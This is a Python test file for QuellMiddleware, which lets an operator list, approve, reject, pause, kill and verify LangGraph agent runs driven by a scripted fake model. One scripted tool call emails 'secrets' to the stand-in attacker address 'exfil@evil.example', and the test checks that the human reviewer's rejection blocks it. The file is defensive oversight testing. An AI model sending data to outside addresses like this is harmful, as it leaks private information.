"""A real LangChain/LangGraph agent (`create_agent`, only the chat model faked, no network) under
quell through QuellMiddleware and its entry point, listed, decided, paused, killed and verified by
the real quell binary."""

import itertools
import json
import threading
import time

import pytest
from langchain.agents import create_agent
from langchain.agents.middleware import HumanInTheLoopMiddleware
from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
from langchain_core.messages import AIMessage, ToolMessage
from langchain_core.tools import tool
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.errors import GraphDrained
from langgraph.runtime import RunControl

from quell_agent import EmbeddedStore, Killed, Runtime
from quell_agent.langgraph import QuellMiddleware, session_id_for_thread
from helpers import DEADLINE_S, pending_approval, quell, replay, sessions, wait_for

SENT = []


@tool
def crm_lookup(customer: str) -> str:
    """Looks a customer up."""
    return f"{customer}: premium, 3 open tickets"


@tool
def send_email(to: str, body: str) -> str:
    """Sends an e-mail."""
    SENT.append(to)
    return f"sent to {to}"


class ToolCallingFake(GenericFakeChatModel):
    """The fake chat model create_agent can bind tools to."""

    def bind_tools(self, tools, **kwargs):
        return self


def scripted(*messages):
    return ToolCallingFake(messages=iter(messages))


def call(name, args, n):
    return AIMessage(content="", tool_calls=[{"name": name, "args": args, "id": f"call-{n}"}],
                     usage_metadata={"input_tokens": 40, "output_tokens": 8, "total_tokens": 48})


def looping_model():
    """A model that looks customers up forever."""
    return ToolCallingFake(messages=(call("crm_lookup", {"customer": f"c{i}"}, i) for i in itertools.count()))


def in_background(fn):
    """Runs fn in a daemon thread (a failed test never hangs the suite); returns (thread,
    outcome), outcome getting "result" or "error"."""
    outcome = {}

    def run():
        try:
            outcome["result"] = fn()
        except Exception as e:  # noqa: BLE001 - the test inspects whatever ended the run
            outcome["error"] = e

    t = threading.Thread(target=run, daemon=True)
    t.start()
    return t, outcome


def finish(t):
    t.join(DEADLINE_S)
    assert not t.is_alive(), "the run did not end"


def kinds_after_kill(store, sid):
    """The session's events, and the kinds of those after the control event that obeyed the kill."""
    events = replay(store, sid)
    at = next(i for i, e in enumerate(events)
              if e["kind"] == "control" and e["attributes"]["quell.control.desired"] == "kill")
    return events, [e["kind"] for e in events[at + 1:]]


def test_a_langgraph_run_is_a_verified_quell_session_with_llm_and_tool_entries(store):
    model = scripted(call("crm_lookup", {"customer": "ACME"}, 1), AIMessage(content="ACME is premium."))
    with Runtime(EmbeddedStore(store)) as rt:
        mw = QuellMiddleware(rt, "support-agent", model="fake-chat", allowed_tools=["crm_lookup"])
        agent = create_agent(model, [crm_lookup], checkpointer=InMemorySaver(), middleware=[mw])
        out = mw.invoke(agent, {"messages": [{"role": "user", "content": "who is ACME?"}]},
                        {"configurable": {"thread_id": "t-support-1"}})
        assert out["messages"][-1].content == "ACME is premium."
    listed = sessions(store)["t-support-1"]
    assert listed["agent"] == "support-agent" and listed["state"] == "finished"
    assert listed["tools"] == ["crm_lookup"] and listed["step"] == 2
    kinds = [e["kind"] for e in replay(store, "t-support-1")]
    assert kinds == ["session_started", "llm_call", "checkpoint", "tool_call", "tool_result", "llm_call",
                     "checkpoint", "session_ended"]
    llm = next(e for e in replay(store, "t-support-1") if e["kind"] == "llm_call")
    assert llm["gen_ai.usage.input_tokens"] == 40
    assert llm["tool_calls"] == [{"gen_ai.tool.name": "crm_lookup", "gen_ai.tool.call.arguments": {"customer": "ACME"}}]
    assert len(llm["input_hash"]) == 64 and "who is ACME" not in json.dumps(llm), "never the raw input"
    assert quell(store, "verify").returncode == 0
    shown = json.loads(quell(store, "show", "t-support-1", "-o", "json").stdout)
    assert [e["step"] for e in shown["entries"] if e["entry"] == "checkpoint"] == [1, 2]


def test_in_middleware_approvals_block_the_tool_call_and_a_rejection_is_told_to_the_model(store):
    """`approvals=`: the call waits inside wrap_tool_call, with a plain agent.invoke."""
    SENT.clear()
    model = scripted(
        call("send_email", {"to": "ok@example.com", "body": "hi"}, 1), AIMessage(content="done"),
        call("send_email", {"to": "exfil@evil.example", "body": "secrets"}, 2), AIMessage(content="could not"),
    )
    with Runtime(EmbeddedStore(store)) as rt:
        mw = QuellMiddleware(rt, "mail-agent", approvals={"send_email": "high"})
        agent = create_agent(model, [send_email], checkpointer=InMemorySaver(), middleware=[mw])
        results = {}
        for thread, verb in (("t-mail-ok", "approve"), ("t-mail-bad", "reject")):
            t, results[thread] = in_background(lambda thread=thread: agent.invoke(
                {"messages": [{"role": "user", "content": "mail"}]}, {"configurable": {"thread_id": thread}}))
            request = pending_approval(store)
            assert request["session_id"] == thread and request["tool"] == "send_email"
            assert sessions(store)[thread]["state"] == "waiting_approval"
            quell(store, verb, request["id"], "--reason", "checked by on-call")
            finish(t)
    assert SENT == ["ok@example.com"], "the rejected e-mail was never sent"
    refused = [m for m in results["t-mail-bad"]["result"]["messages"] if getattr(m, "status", None) == "error"]
    assert refused and "rejected" in refused[0].content
    decided = [e["attributes"]["quell.approval.status"] for e in replay(store, "t-mail-bad")
               if e["kind"] == "approval_decided"]
    assert decided == ["rejected"]
    assert quell(store, "verify").returncode == 0


@pytest.mark.parametrize("mode,verb,ttl", [("batched", "approve", 600), ("per_call", "approve", 600),
                                           ("batched", "reject", 600), ("per_call", "expire", 2)])
def test_human_in_the_loop_interrupts_are_decided_in_quell_and_resumed(store, mode, verb, ttl):
    """HumanInTheLoopMiddleware stops the graph at an interrupt; quell.invoke asks quell and
    resumes with Command(resume=...): approved -> the tool runs, rejected/expired -> it does not."""
    SENT.clear()
    model = scripted(call("send_email", {"to": "cfo@example.com", "body": "Q3 numbers"}, 1), AIMessage(content="over"))
    thread = f"t-hitl-{mode}-{verb}"
    with Runtime(EmbeddedStore(store)) as rt:
        mw = QuellMiddleware(rt, "mail-agent", interrupt_risks={"send_email": "critical"}, approval_ttl=ttl)
        review = HumanInTheLoopMiddleware(interrupt_on={"send_email": {"allowed_decisions": ["approve", "reject"]}},
                                          interrupt_mode=mode)
        agent = create_agent(model, [send_email], checkpointer=InMemorySaver(), middleware=[review, mw])
        t, outcome = in_background(lambda: mw.invoke(agent, {"messages": [{"role": "user", "content": "mail"}]},
                                                     {"configurable": {"thread_id": thread}}))
        request = pending_approval(store)
        assert (request["session_id"], request["tool"], request["risk"]) == (thread, "send_email", "critical")
        assert request["arguments"] == {"to": "cfo@example.com", "body": "Q3 numbers"}
        assert sessions(store)[thread]["state"] == "waiting_approval"
        if verb != "expire":
            quell(store, verb, request["id"], "--reason", "checked by on-call")
        finish(t)
    assert "error" not in outcome, outcome
    status = {"approve": "approved", "reject": "rejected", "expire": "expired"}[verb]
    events = replay(store, thread)
    assert [e["attributes"]["quell.approval.status"] for e in events if e["kind"] == "approval_decided"] == [status]
    ran = ("tool_call", "send_email") in [(e["kind"], e.get("gen_ai.tool.name")) for e in events]
    told = [m.content for m in outcome["result"]["messages"] if isinstance(m, ToolMessage)]
    if verb == "approve":
        assert ran and SENT == ["cfo@example.com"] and told == ["sent to cfo@example.com"]
    else:
        assert not ran and SENT == [], "a rejected or expired e-mail is never sent"
        assert len(told) == 1 and status in told[0], "the model is told why"
    assert sessions(store)[thread]["state"] == "finished"
    assert quell(store, "verify", thread).returncode == 0


def test_kill_drains_a_looping_agent_mid_step_and_no_tool_runs_after_it(store):
    """The kill lands while a tool is running; the step finishes, LangGraph saves its checkpoint
    and stops at the boundary (GraphDrained through the caller's RunControl); the session is killed."""
    control = RunControl()
    ran = []

    @tool
    def slow_lookup(customer: str) -> str:
        """Looks a customer up, slowly from the third call on: until quell has asked for the drain."""
        ran.append(customer)
        if len(ran) == 3:
            wait_for("the drain request while this tool runs", lambda: control.drain_requested)
        return f"{customer}: premium"

    model = ToolCallingFake(messages=(call("slow_lookup", {"customer": f"c{i}"}, i) for i in itertools.count()))
    saver = InMemorySaver()
    cfg = {"configurable": {"thread_id": "t-drain"}, "recursion_limit": 100_000}
    with Runtime(EmbeddedStore(store)) as rt:
        mw = QuellMiddleware(rt, "research-agent")
        agent = create_agent(model, [slow_lookup], checkpointer=saver, middleware=[mw])
        t, outcome = in_background(lambda: mw.invoke(
            agent, {"messages": [{"role": "user", "content": "research"}]}, cfg, control=control))
        wait_for("the third tool call", lambda: len(ran) >= 3)
        quell(store, "kill", "t-drain", "--reason", "runaway loop", "--wait", "10")
        finish(t)
    err = outcome.get("error")
    assert isinstance(err, Killed), outcome
    assert isinstance(err.__cause__, GraphDrained), "the run ended by LangGraph's drain, not by a hook"
    assert "runaway loop" in control.drain_reason
    assert len(ran) == 3, "no tool ran after the kill"
    assert sessions(store)["t-drain"]["state"] == "killed"
    events, after = kinds_after_kill(store, "t-drain")
    assert "tool_call" not in after and "tool_result" not in after, after
    assert sum(1 for e in events if e["kind"] == "tool_call") == 3
    control_event = next(e for e in events if e["kind"] == "control")
    assert control_event["attributes"]["quell.control.reason"] == "runaway loop"
    state = agent.get_state(cfg)
    assert state.next == ("QuellMiddleware.before_model",), "LangGraph holds the thread, stopped before the next step"
    assert [m.content for m in state.values["messages"] if isinstance(m, ToolMessage)][-1] == "c2: premium"
    assert quell(store, "verify").returncode == 0


def test_pause_is_acknowledged_mid_step_holds_the_agent_and_a_kill_while_paused_drains_it(store):
    hold, release = threading.Event(), threading.Event()
    ran = []

    @tool
    def lookup(customer: str) -> str:
        """Looks a customer up; held (mid-step) while the test says so."""
        ran.append(customer)
        if hold.is_set():
            hold.clear()
            assert release.wait(DEADLINE_S)
        return f"{customer}: premium"

    model = ToolCallingFake(messages=(call("lookup", {"customer": f"c{i}"}, i) for i in itertools.count()))
    control = RunControl()
    with Runtime(EmbeddedStore(store)) as rt:
        mw = QuellMiddleware(rt, "research-agent")
        agent = create_agent(model, [lookup], checkpointer=InMemorySaver(), middleware=[mw])
        t, outcome = in_background(lambda: mw.invoke(
            agent, {"messages": [{"role": "user", "content": "research"}]},
            {"configurable": {"thread_id": "t-loop"}, "recursion_limit": 100_000}, control=control))
        wait_for("a few steps", lambda: sessions(store).get("t-loop", {}).get("step", 0) >= 3)
        hold.set()
        wait_for("a tool held mid-step", lambda: not hold.is_set())
        p = quell(store, "pause", "t-loop", "--reason", "runaway", "--wait", "5")
        assert p.returncode == 0 and "1 acknowledged" in p.stdout, "acknowledged while the tool still runs"
        assert not release.is_set() and sessions(store)["t-loop"]["state"] == "paused"
        release.set()
        held = sessions(store)["t-loop"]["step"]
        calls = len(ran)
        deadline = time.monotonic() + 0.5
        while time.monotonic() < deadline:
            assert sessions(store)["t-loop"]["step"] == held and len(ran) == calls, "no step while paused"
        quell(store, "resume", "t-loop", "--reason", "looked fine")
        wait_for("steps again", lambda: sessions(store)["t-loop"]["step"] > held)
        quell(store, "pause", "t-loop", "--reason", "runaway again", "--wait", "5")
        calls = len(ran)
        quell(store, "kill", "t-loop", "--reason", "loop", "--wait", "10")
        finish(t)
    assert isinstance(outcome.get("error"), Killed) and isinstance(outcome["error"].__cause__, GraphDrained)
    assert control.drain_requested and len(ran) == calls, "no tool after the kill"
    assert sessions(store)["t-loop"]["state"] == "killed"
    _, after = kinds_after_kill(store, "t-loop")
    assert "tool_call" not in after and "tool_result" not in after, after
    desired = [e["attributes"]["quell.control.desired"] for e in replay(store, "t-loop") if e["kind"] == "control"]
    assert desired == ["pause", "run", "pause", "kill"]
    assert quell(store, "verify").returncode == 0


def test_seed_checkpoints_of_a_thread_run_twice_have_increasing_non_negative_steps(store):
    """LangGraph's own checkpoints start at metadata step -1 (the input); quell's steps are its
    own counter, and a second run on the thread continues the session's chain and steps."""
    model = scripted(call("crm_lookup", {"customer": "ACME"}, 1), AIMessage(content="premium"),
                     call("crm_lookup", {"customer": "Initech"}, 2), AIMessage(content="basic"))
    saver = InMemorySaver()
    cfg = {"configurable": {"thread_id": "t-twice"}}
    with Runtime(EmbeddedStore(store)) as rt:
        mw = QuellMiddleware(rt, "support-agent")
        agent = create_agent(model, [crm_lookup], checkpointer=saver, middleware=[mw])
        mw.invoke(agent, {"messages": [{"role": "user", "content": "ACME?"}]}, cfg)
        assert sessions(store)["t-twice"]["state"] == "finished"
        mw.invoke(agent, {"messages": [{"role": "user", "content": "Initech?"}]}, cfg)
    assert -1 in [c.metadata["step"] for c in agent.get_state_history(cfg)], "LangGraph's input checkpoint"
    shown = json.loads(quell(store, "show", "t-twice", "-o", "json").stdout)
    steps = [e["step"] for e in shown["entries"] if e["entry"] == "checkpoint"]
    assert steps == [1, 2, 3, 4]
    events = replay(store, "t-twice")
    assert [e["attributes"]["quell.checkpoint.step"] for e in events if e["kind"] == "checkpoint"] == steps
    assert all(e["step"] >= 0 for e in events)
    resumed = [e["attributes"] for e in events if e["kind"] == "session_started"]
    assert len(resumed) == 2 and resumed[1]["quell.resumed_from_step"] == 2
    assert sessions(store)["t-twice"]["state"] == "finished" and sessions(store)["t-twice"]["step"] == 4
    assert quell(store, "verify", "t-twice").returncode == 0


def test_thread_ids_outside_quells_alphabet_map_to_a_stable_id_and_are_kept(store):
    assert session_id_for_thread("t-1") == "t-1"
    odd = session_id_for_thread("user 42 / chat ✉")
    assert odd.startswith("lg-") and odd == session_id_for_thread("user 42 / chat ✉")
    model = scripted(AIMessage(content="hello"))
    with Runtime(EmbeddedStore(store)) as rt:
        mw = QuellMiddleware(rt, "chat-agent")
        agent = create_agent(model, [crm_lookup], checkpointer=InMemorySaver(), middleware=[mw])
        mw.invoke(agent, {"messages": [{"role": "user", "content": "hi"}]},
                  {"configurable": {"thread_id": "user 42 / chat ✉"}})
    started = replay(store, odd)[0]
    assert started["attributes"]["quell.langgraph.thread_id"] == "user 42 / chat ✉"
    assert sessions(store)[odd]["state"] == "finished"


def test_stream_yields_the_chunks_of_every_pass_across_a_quell_decision(store):
    SENT.clear()
    model = scripted(call("send_email", {"to": "ops@example.com", "body": "ok"}, 1), AIMessage(content="sent"))
    with Runtime(EmbeddedStore(store)) as rt:
        mw = QuellMiddleware(rt, "mail-agent")
        review = HumanInTheLoopMiddleware(interrupt_on={"send_email": {"allowed_decisions": ["approve", "reject"]}})
        agent = create_agent(model, [send_email], checkpointer=InMemorySaver(), middleware=[review, mw])
        t, outcome = in_background(lambda: list(mw.stream(
            agent, {"messages": [{"role": "user", "content": "mail"}]},
            {"configurable": {"thread_id": "t-stream"}}, stream_mode="updates")))
        quell(store, "approve", pending_approval(store)["id"], "--reason", "fine")
        finish(t)
    nodes = [name for chunk in outcome["result"] for name in chunk]
    assert nodes.index("__interrupt__") < nodes.index("tools"), nodes
    assert SENT == ["ops@example.com"] and sessions(store)["t-stream"]["state"] == "finished"
